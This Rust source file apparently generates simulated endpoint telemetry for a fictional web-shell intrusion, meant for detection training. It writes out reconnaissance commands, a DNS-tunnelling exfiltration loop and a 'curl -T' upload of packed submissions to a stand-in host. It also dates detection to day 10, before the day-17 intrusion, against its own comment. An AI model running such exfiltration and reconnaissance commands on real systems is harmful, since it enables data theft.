//! The third intrusion: a server on the internet with software that should have been updated.
//!
//! The web server of the forms site runs a version that takes files of any kind. At night a
//! stranger uploads a page, through which the worker of the web server runs commands, looks
//! around, packs the submissions and sends them out, first in the names of DNS queries and,
//! because that is slow, then over HTTPS. Days later a scan finds the page.

use std::net::Ipv4Addr;

use super::super::{
    alerts::{Alert, Evidence},
    calendar::{HOUR, MINUTE, SECOND},
    company::{DOMAIN_CONTROLLER, SQL_SERVER, WEB_SERVER},
    world::World,
};

const STRANGER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 145);
const PAGE: &str = r"C:\inetpub\forms\upload\help.aspx";
const ARCHIVE: &str = r"C:\inetpub\forms\upload\~tmp41.zip";
const ZONE: &str = "t.litware-cdn.example";
const RESOLVER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 153);
const DROP: (&str, Ipv4Addr) = ("files.litware-cdn.example", Ipv4Addr::new(203, 0, 113, 154));

pub(super) fn generate(world: &mut World) {
    let night = world.calendar.day(17);
    let time = world.random.time(
        night + 2 * HOUR + 10 * MINUTE,
        night + 2 * HOUR + 25 * MINUTE,
    );
    let Some(worker) = world.boot(WEB_SERVER, time).role else {
        return;
    };
    uploads(world, worker, time);
    looks_around(world, worker, time + 14 * MINUTE);
    sends_out(world, worker, time + 47 * MINUTE);
    found(world, worker);
}

fn request(world: &mut World, worker: usize, time: i64) {
    let port = i32::try_from(world.random.between(30_000, 60_000)).unwrap_or(0);
    let device = world.processes[worker].device;
    let kernel = world.boot(device, time).kernel;
    world.connection(
        kernel,
        time,
        "InboundConnectionAccepted",
        (STRANGER, port),
        "",
        "Tcp",
    );
    if let Some(inbound) = world.connections.last_mut() {
        inbound.local_port = 443;
    }
}

fn uploads(world: &mut World, worker: usize, time: i64) {
    // Two dozen requests in a minute to see what is there, then the upload.
    for place in 0..24 {
        let jitter = world.random.time(0, SECOND);
        request(
            world,
            worker,
            time - 3 * MINUTE + place * 2_400_000_000 + jitter,
        );
    }
    request(world, worker, time - 40_000_000);
    let page = world.content(1_584);
    world.file(worker, time, "FileCreated", PAGE, page);
    let command = concat!(
        "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths ",
        "@\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\5d1e0c\\help.cmdline\""
    );
    request(world, worker, time + 21 * SECOND);
    let compiler = world.spawn(worker, time + 22 * SECOND, "csc.exe", command);
    world.spawn(
        compiler,
        time + 23 * SECOND,
        "cvtres.exe",
        "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
    );
}

fn looks_around(world: &mut World, worker: usize, time: i64) {
    let commands = [
        ("whoami.exe", "whoami"),
        ("systeminfo.exe", "systeminfo"),
        ("ipconfig.exe", "ipconfig /all"),
        ("tasklist.exe", "tasklist /svc"),
        ("net.exe", "net user /domain"),
        ("nltest.exe", "nltest /domain_trusts"),
        ("nslookup.exe", "nslookup sql01"),
        ("reg.exe", r"reg query HKLM\SOFTWARE\Litware\Forms /s"),
    ];
    for (place, (image, command)) in (0..).zip(commands) {
        let at = time + place * (97 * SECOND + 3_456_700);
        request(world, worker, at - 60_000_000);
        let shell = world.spawn(
            worker,
            at,
            "cmd.exe",
            format!("\"cmd.exe\" /c {command} 2>&1"),
        );
        world.spawn(
            shell,
            at + 20_000_000,
            "conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0x4",
        );
        world.spawn(shell, at + 50_000_000, image, command);
    }
    for server in [SQL_SERVER, DOMAIN_CONTROLLER] {
        let address = world.company.address(server, time);
        for (place, port) in (0..).zip([445, 1433, 3389, 5985]) {
            let action = if port == 1433 {
                "ConnectionSuccess"
            } else {
                "ConnectionFailed"
            };
            let at = time + 20 * MINUTE + place * 310_000_000;
            world.connection(worker, at, action, (address, port), "", "Tcp");
        }
    }
}

fn sends_out(world: &mut World, worker: usize, time: i64) {
    let command = format!(
        "\"cmd.exe\" /c tar.exe -a -c -f {ARCHIVE} C:\\inetpub\\forms\\App_Data\\submissions"
    );
    let shell = world.spawn(worker, time, "cmd.exe", command);
    let command = format!("tar.exe -a -c -f {ARCHIVE} C:\\inetpub\\forms\\App_Data\\submissions");
    let pack = world.spawn(shell, time + 40_000_000, "tar.exe", command);
    let archive = world.content(23_068_672);
    world.file(pack, time + 30 * SECOND, "FileCreated", ARCHIVE, archive);

    let command =
        "powershell.exe -nop -c \"gc C:\\inetpub\\forms\\upload\\~t.txt | %{Resolve-DnsName $_}\"";
    let loop_shell = world.spawn(worker, time + 5 * MINUTE, "powershell.exe", command);
    super::super::endpoint_noise::powershell_libraries(world, loop_shell);
    let mut at = time + 5 * MINUTE + 4 * SECOND;
    for number in 0..260 {
        let name = format!(
            "{number:04x}.{}.{}.{ZONE}",
            world.random.hex(50),
            world.random.hex(38)
        );
        let text = format!("{{\"DnsQueryString\":\"{name}\",\"DnsQueryResult\":\"[]\"}}");
        world.event(loop_shell, at, "DnsQueryResponse").additional = text.into();
        if number % 4 == 0 {
            world.connect(loop_shell, at + 2_000_000, RESOLVER, 53, "");
        }
        at += world.random.time(600_000_000, 3 * SECOND);
    }

    let at = at + 7 * MINUTE;
    request(world, worker, at - SECOND);
    let command = format!(
        "\"cmd.exe\" /c curl.exe -s -T {ARCHIVE} https://{}/u/41",
        DROP.0
    );
    let shell = world.spawn(worker, at, "cmd.exe", command);
    let command = format!("curl.exe  -s -T {ARCHIVE} https://{}/u/41", DROP.0);
    let upload = world.spawn(shell, at + 60_000_000, "curl.exe", command);
    world.connect(upload, at + SECOND, DROP.1, 443, DROP.0);
    world.file(worker, at + 4 * MINUTE, "FileDeleted", ARCHIVE, archive);
}

fn found(world: &mut World, worker: usize) {
    let night = world.calendar.day(10);
    let time = world
        .random
        .time(night + 12 * HOUR, night + 12 * HOUR + 30 * MINUTE);
    let Some(page) = world
        .files
        .iter()
        .find(|file| file.path == PAGE && file.actor == worker)
    else {
        return;
    };
    let content = page.content;
    let defender = world.boot(WEB_SERVER, time).defender;
    let event = world.event(defender, time, "AntivirusDetection");
    event.path = PAGE.into();
    event.content = Some(content);
    event.additional =
        "{\"ThreatName\":\"Backdoor:ASP/Sample.A\",\"WasRemediated\":false,\"ReportSource\":\"Windows Defender\"}".into();
    let id = format!("da{}_1", world.random.hex(24));
    world.alerts.alerts.push(Alert {
        time: time + 2 * MINUTE,
        id,
        title: "Possible web shell installation",
        category: "Persistence",
        severity: "Medium",
        service: "Microsoft Defender for Endpoint",
        detection: "Antivirus",
        techniques: "[\"Web Shell (T1505.003)\"]",
        evidence: vec![
            Evidence::Device(WEB_SERVER),
            Evidence::File {
                device: WEB_SERVER,
                path: PAGE.into(),
                content,
            },
        ],
    });
}
